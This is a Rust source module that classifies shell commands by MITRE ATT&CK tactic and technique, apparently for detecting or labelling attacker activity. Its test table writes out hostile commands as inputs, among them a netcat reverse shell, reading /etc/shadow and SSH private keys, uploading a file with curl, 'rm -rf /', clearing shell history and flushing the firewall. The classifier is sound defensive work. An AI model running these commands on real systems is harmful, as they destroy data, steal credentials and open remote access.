//! What commands are for: one table from a command, and the shape of its arguments, to a class, a
//! tactic and a technique of MITRE ATT&CK (Enterprise, version 17.1). Where each class comes from
//! is in `docs/commands.md`.
//!
//! **Invariant:** one list, looked through from its begin; the first rule that fits a command is the
//! answer. A rule looks at names, arguments and the targets of redirections, and at nothing else.

mod names;
mod rules;

pub use rules::RULES;

/// The version of ATT&CK that techniques and tactics are numbered in.
pub const ATTACK_VERSION: &str = "17.1";

/// What a command is for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Class {
    /// Gets other rights.
    Privilege,
    /// Takes something away.
    Deletion,
    /// Brings something to the machine.
    Download,
    /// Reads, changes or tries credentials.
    Credentials,
    /// Stays.
    Persistence,
    /// Hides what was done, or what guards the machine.
    Evasion,
    /// Takes something out of the machine.
    Exfiltration,
    /// Hurts the machine, or uses it up.
    Impact,
    /// Runs something that was brought.
    Execution,
    /// Goes to another machine.
    Lateral,
    /// Opens a way to be told what to do.
    Control,
    /// Puts together what is to be taken.
    Collection,
    /// Looks around.
    Discovery,
}

/// A tactic of ATT&CK.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
#[expect(missing_docs, reason = "the names are ATT&CK's")]
pub enum Tactic {
    Execution,
    Persistence,
    PrivilegeEscalation,
    DefenseEvasion,
    CredentialAccess,
    Discovery,
    LateralMovement,
    Collection,
    CommandAndControl,
    Exfiltration,
    Impact,
}

/// One rule of the taxonomy.
#[derive(Debug)]
pub struct Rule {
    /// Commands by their names; none for any command.
    pub names: &'static [&'static str],
    /// What its arguments have to be.
    pub when: When,
    /// What it is for.
    pub class: Class,
    /// The tactic under which the technique is meant.
    pub tactic: Tactic,
    /// The technique's number.
    pub technique: &'static str,
}

/// A condition on the arguments of a command.
#[derive(Debug)]
pub enum When {
    /// None.
    Always,
    /// This letter is among its short flags, alone or with others.
    Letter(u8),
    /// One of its words is one of these.
    Word(&'static [&'static str]),
    /// One of its words holds one of these.
    Holds(&'static [&'static str]),
    /// Its first operand is one of these.
    First(&'static [&'static str]),
    /// It has an operand.
    Operand,
    /// It is written, or added, to a file whose path holds one of these.
    Into(&'static [&'static str]),
    /// All of these.
    All(&'static [When]),
    /// Its name has a slash: it is run by its path, and not by its name.
    ByPath(&'static [&'static str]),
}

/// A command, as rules look at it.
#[derive(Clone, Copy, Debug)]
pub struct Shape<'a> {
    /// Its name as typed.
    pub name: &'a [u8],
    /// Its arguments.
    pub words: &'a [Vec<u8>],
    /// Paths of files that it is written to.
    pub targets: &'a [Vec<u8>],
}

impl Class {
    /// One word for tables.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Privilege => "privilege",
            Self::Deletion => "deletion",
            Self::Download => "download",
            Self::Credentials => "credentials",
            Self::Persistence => "persistence",
            Self::Evasion => "evasion",
            Self::Exfiltration => "exfiltration",
            Self::Impact => "impact",
            Self::Execution => "execution",
            Self::Lateral => "lateral",
            Self::Control => "control",
            Self::Collection => "collection",
            Self::Discovery => "discovery",
        }
    }

    /// Whether it changes or takes something: who types such a command may hesitate.
    #[must_use]
    pub fn is_sensitive(self) -> bool {
        match self {
            Self::Privilege
            | Self::Deletion
            | Self::Download
            | Self::Credentials
            | Self::Persistence
            | Self::Evasion
            | Self::Exfiltration
            | Self::Impact => true,
            Self::Execution
            | Self::Lateral
            | Self::Control
            | Self::Collection
            | Self::Discovery => false,
        }
    }

    /// Every class, in order.
    pub const ALL: [Self; 13] = [
        Self::Privilege,
        Self::Deletion,
        Self::Download,
        Self::Credentials,
        Self::Persistence,
        Self::Evasion,
        Self::Exfiltration,
        Self::Impact,
        Self::Execution,
        Self::Lateral,
        Self::Control,
        Self::Collection,
        Self::Discovery,
    ];
}

impl Tactic {
    /// Its number.
    #[must_use]
    pub fn id(self) -> &'static str {
        match self {
            Self::Execution => "TA0002",
            Self::Persistence => "TA0003",
            Self::PrivilegeEscalation => "TA0004",
            Self::DefenseEvasion => "TA0005",
            Self::CredentialAccess => "TA0006",
            Self::Discovery => "TA0007",
            Self::LateralMovement => "TA0008",
            Self::Collection => "TA0009",
            Self::Exfiltration => "TA0010",
            Self::CommandAndControl => "TA0011",
            Self::Impact => "TA0040",
        }
    }
}

/// The first rule that fits a command.
#[must_use]
pub fn classify(shape: &Shape<'_>) -> Option<&'static Rule> {
    let name = base_name(shape.name);
    RULES.iter().find(|rule| {
        let is_named = rule.names.is_empty() || rule.names.iter().any(|n| n.as_bytes() == name);
        is_named && rule.when.holds(shape)
    })
}

/// A command's name without the folder that it is in.
#[must_use]
pub fn base_name(name: &[u8]) -> &[u8] {
    name.rsplit(|&byte| byte == b'/').next().unwrap_or(name)
}

impl When {
    fn holds(&self, shape: &Shape<'_>) -> bool {
        let any = |parts: &[&str], test: &dyn Fn(&[u8]) -> bool| {
            parts.iter().any(|part| test(part.as_bytes()))
        };
        let mut operands = shape.words.iter().filter(|word| !is_flag(word));
        match self {
            Self::Always => true,
            Self::Letter(letter) => shape.words.iter().any(|word| has_letter(word, *letter)),
            Self::Word(these) => {
                shape.words.iter().any(|word| any(these, &|this| this == word.as_slice()))
            }
            Self::Holds(these) => {
                shape.words.iter().any(|word| any(these, &|this| contains(word, this)))
            }
            Self::First(these) => {
                operands.next().is_some_and(|word| any(these, &|this| this == word.as_slice()))
            }
            Self::Operand => operands.next().is_some(),
            Self::Into(these) => {
                shape.targets.iter().any(|path| any(these, &|this| contains(path, this)))
            }
            Self::All(all) => all.iter().all(|when| when.holds(shape)),
            Self::ByPath(begins) => any(begins, &|begin| shape.name.starts_with(begin)),
        }
    }
}

fn is_flag(word: &[u8]) -> bool {
    word.len() > 1 && word.starts_with(b"-")
}

fn has_letter(word: &[u8], letter: u8) -> bool {
    is_flag(word) && !word.starts_with(b"--") && word.contains(&letter)
}

fn contains(text: &[u8], part: &[u8]) -> bool {
    part.is_empty() || text.windows(part.len()).any(|window| window == part)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[track_caller]
    fn check(command: &str, into: &str, expected: Option<(Class, &str)>) {
        let words: Vec<Vec<u8>> = command.split(' ').map(|word| word.as_bytes().to_vec()).collect();
        let (name, words) = words.split_first().unwrap();
        let targets: Vec<Vec<u8>> =
            into.split(' ').filter(|path| !path.is_empty()).map(Into::into).collect();
        let found = classify(&Shape { name, words, targets: &targets });
        assert_eq!(found.map(|rule| (rule.class, rule.technique)), expected, "{command} > {into}");
    }

    #[test]
    fn commands_are_for_this() {
        use Class::{
            Control, Credentials, Deletion, Discovery, Download, Evasion, Execution, Exfiltration,
            Impact, Lateral, Persistence, Privilege,
        };
        let table = [
            ("sudo -l", "", Privilege, "T1548.003"),
            ("su -", "", Privilege, "T1078.003"),
            ("chmod u+s /tmp/sh", "", Privilege, "T1548.001"),
            ("chmod 4755 /tmp/sh", "", Privilege, "T1548.001"),
            ("chmod +x a", "", Evasion, "T1222.002"),
            ("rm -rf /", "", Deletion, "T1485"),
            ("rm a", "", Deletion, "T1070.004"),
            ("rm -f /var/log/auth.log", "", Evasion, "T1070.002"),
            ("rm /root/.bash_history", "", Evasion, "T1070.003"),
            ("history -c", "", Evasion, "T1070.003"),
            ("unset HISTFILE", "", Evasion, "T1562.003"),
            ("wget http://192.0.2.1/a", "", Download, "T1105"),
            ("/usr/bin/curl -O http://192.0.2.1/a", "", Download, "T1105"),
            ("curl -T a http://192.0.2.1/", "", Exfiltration, "T1048"),
            ("cat /etc/shadow", "", Credentials, "T1003.008"),
            ("cat /root/.ssh/id_rsa", "", Credentials, "T1552.004"),
            ("cat /etc/passwd", "", Discovery, "T1087.001"),
            ("chpasswd", "", Credentials, "T1098"),
            ("passwd root", "", Credentials, "T1098"),
            ("echo key", "/root/.ssh/authorized_keys", Persistence, "T1098.004"),
            ("echo x", "/etc/cron.d/a", Persistence, "T1053.003"),
            ("crontab -", "", Persistence, "T1053.003"),
            ("crontab -l", "", Discovery, "T1083"),
            ("useradd -m x", "", Persistence, "T1136.001"),
            ("systemctl enable x", "", Persistence, "T1543.002"),
            ("systemctl stop x", "", Impact, "T1489"),
            ("uname -a", "", Discovery, "T1082"),
            ("ls -la", "", Discovery, "T1083"),
            ("ps aux", "", Discovery, "T1057"),
            ("./xmrig -o pool", "", Impact, "T1496.001"),
            ("/tmp/.x/a", "", Execution, "T1059.004"),
            ("./a", "", Execution, "T1059.004"),
            ("ssh root@192.0.2.1", "", Lateral, "T1021.004"),
            ("ssh -R 1:a:2 b", "", Control, "T1572"),
            ("nc -e /bin/sh 192.0.2.1 4", "", Control, "T1095"),
            ("reboot", "", Impact, "T1529"),
            ("iptables -F", "", Evasion, "T1562.004"),
        ];
        for (command, into, class, technique) in table {
            check(command, into, Some((class, technique)));
        }
        for command in ["cd /tmp", "echo a", "clear", "exit", "wgetx", "true"] {
            check(command, "", None);
        }
    }

    #[test]
    fn numbers_are_of_attack_and_no_rule_is_hidden_by_one_before() {
        let mut always: BTreeSet<&str> = BTreeSet::new();
        for rule in RULES {
            let (main, sub) = rule.technique.split_once('.').unwrap_or((rule.technique, "001"));
            assert!(main.starts_with('T') && main.len() == 5, "{}", rule.technique);
            assert!(
                main.trim_start_matches('T').parse::<u16>().is_ok() && sub.len() == 3,
                "{}",
                rule.technique
            );
            for name in rule.names {
                assert!(!always.contains(name), "{name}: a rule behind one for all of it");
            }
            if matches!(rule.when, When::Always) {
                always.extend(rule.names.iter().copied());
            }
        }
        let classes: BTreeSet<Class> = RULES.iter().map(|rule| rule.class).collect();
        assert_eq!(classes.into_iter().collect::<Vec<_>>(), Class::ALL);
    }

    #[test]
    fn the_document_names_every_technique_with_its_class() {
        let document = include_str!("../../../../docs/commands.md");
        let row = |class: Class| {
            let begin = format!("| {} | {} |", class.name(), word(class.is_sensitive()));
            document
                .lines()
                .find(|line| line.starts_with(&begin))
                .unwrap_or_else(|| panic!("{begin}"))
        };
        let mut told: BTreeSet<(Class, &str)> = BTreeSet::new();
        for class in Class::ALL {
            let words = row(class).split([' ', ',', ';', '|']);
            let numbers =
                words.filter(|word| word.starts_with('T') && word.ends_with(char::is_numeric));
            told.extend(numbers.map(|number| (class, number)));
        }
        let ruled: BTreeSet<_> = RULES.iter().map(|rule| (rule.class, rule.technique)).collect();
        assert_eq!(told, ruled);
        assert!(document.contains(&format!("MITRE ATT&CK Enterprise {ATTACK_VERSION}")));
    }

    fn word(is_so: bool) -> &'static str {
        if is_so { "yes" } else { "no" }
    }
}
